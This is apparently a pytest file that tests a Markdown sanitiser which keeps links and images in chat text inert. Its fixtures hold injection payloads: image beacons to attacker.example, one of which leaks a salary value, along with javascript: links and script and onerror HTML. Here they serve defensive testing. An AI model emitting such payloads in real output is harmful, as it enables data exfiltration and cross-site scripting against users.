"""Document and model text rendered safely: no image is loaded and no link is live, whatever the text holds;
the addresses stay visible as text, and ordinary Markdown still renders."""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from ui.format import link_markers, safe_markdown

render = MarkdownIt("commonmark").enable("table").render

HOSTILE = [
    "Total ![x](http://attacker.example/pixel?q=salary) as agreed.",
    '![x](<http://attacker.example/p.png> "title")',
    "[click here](javascript:alert(1)) now",
    "[![badge](http://evil.example/b.svg)](http://evil.example/)",
    "![ref][pix]\n\n[pix]: http://attacker.example/ref.png",
    "[docs][d]\n\n[d]: http://attacker.example/",
    "<http://attacker.example/auto> and <img src=http://attacker.example/h.png>",
    "See http://attacker.example/bare?a=1 or www.attacker.example today.",
    "\\![escaped](http://attacker.example/e.png) and \\\\![double](http://attacker.example/d.png)",
    "`code` ![in text](http://attacker.example/after-code.png) `more`",
    "$x$ costs $5 :red[alert] [1] ![](http://attacker.example/empty-alt.png)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_renders_live(text: str) -> None:
    html = render(safe_markdown(text))
    assert "<img" not in html, html
    assert "<a " not in html, html
    for address in re.findall(r"(?:https?://|www\.)[^\s\")<>`]+", text):  # every address still visible
        assert address.split("?")[0] in html, (address, html)


def test_links_and_images_show_their_target_as_text() -> None:
    shown = safe_markdown("Pay ![logo](http://evil.example/p.png) via [our portal](https://pay.example/x).")
    assert shown == ("Pay \\[image: logo\\] (`http://evil.example/p.png`, not loaded) via "
                     "our portal (`https://pay.example/x`).")


def test_ordinary_markdown_still_renders() -> None:
    html = render(safe_markdown("## Budget\n\n- **rent** is *due* [1]\n\n| a | b |\n|---|---|\n| 1 | 2 |"))
    assert "<h2>Budget</h2>" in html and "<strong>rent</strong>" in html and "<em>due</em>" in html
    assert "[1]" in html and "<table>" in html


def test_dollars_are_not_maths_and_backslashes_cannot_undo_the_escaping() -> None:
    assert safe_markdown("costs $5 or $6") == "costs \\$5 or \\$6"
    assert "<img" not in render(safe_markdown("\\\\\\![a](http://e.example/x.png)"))


def test_citation_markers_stay_as_typed_but_cannot_become_references() -> None:
    assert safe_markdown("Curie discovered radium [1] and polonium [1, 2].") == \
        "Curie discovered radium [1] and polonium [1, 2]."
    html = render(safe_markdown("See [1] and ![1]\n\n[1]: http://attacker.example/r.png"))
    assert "<img" not in html and "<a " not in html and "[1]" in html


HREF = "?chat=5b7a0e4e-0c3f-4a52-9d7e-1f2a3b4c5d6e&source=7-"
OURS = re.compile(r'<a href="\?chat=5b7a0e4e-0c3f-4a52-9d7e-1f2a3b4c5d6e&amp;source=7-\d" target="_self">\d</a>')


def test_citation_markers_become_same_tab_links_and_nothing_else_does() -> None:
    doc = "Curie found **polonium** [1] [1, 3] <b>x</b> [evil](javascript:alert(1)) `[2]` [9]"
    shown = link_markers(safe_markdown(doc), HREF, {1, 2, 3})
    first = '<a href="?chat=5b7a0e4e-0c3f-4a52-9d7e-1f2a3b4c5d6e&amp;source=7-1" target="_self">1</a>'
    assert shown.startswith(f"Curie found **polonium** \\[{first}\\] \\[{first}, ")
    assert "\\<b\\>x\\</b\\>" in shown  # the document's HTML stays escaped
    assert "](javascript" not in shown and "`javascript:alert(1`" in shown  # its link stays an inert address
    assert "`[2]`" in shown and shown.endswith("[9]")  # code spans and unknown citations are left as they were
    assert len(OURS.findall(shown)) == 3 and shown.count("<a ") == 3  # the only links are the three markers


@pytest.mark.parametrize("text", [*HOSTILE, "[1](javascript:alert(1)) <a href=javascript:alert(2)>[1]</a>",
                                  "<script>alert(1)</script> [1] &lt;img src=x onerror=alert(3)&gt;",
                                  '<img src="x" onerror="alert(4)"> [2]', "[1]: javascript:alert(5)\n\n[1]"])
def test_linked_markers_add_no_other_link_image_or_tag(text: str) -> None:
    """Rendered with HTML allowed, as the chat page draws an answer: the marker links are the only tags."""
    html = render(link_markers(safe_markdown(text), HREF, {1, 2}))
    tags = re.findall(r"<(\w+)([^>]*)>", html)  # every tag the browser would build (escaped text is not one)
    assert {name for name, _ in tags} <= {"p", "code", "a", "strong", "em", "ul", "li"}, html
    assert not any("javascript" in attributes for _, attributes in tags), html
    assert all(OURS.fullmatch(a) for a in re.findall(r"<a [^>]*>[^<]*</a>", html)), html
    assert html.count("<a ") == len(re.findall(r"<a [^>]*>[^<]*</a>", html))
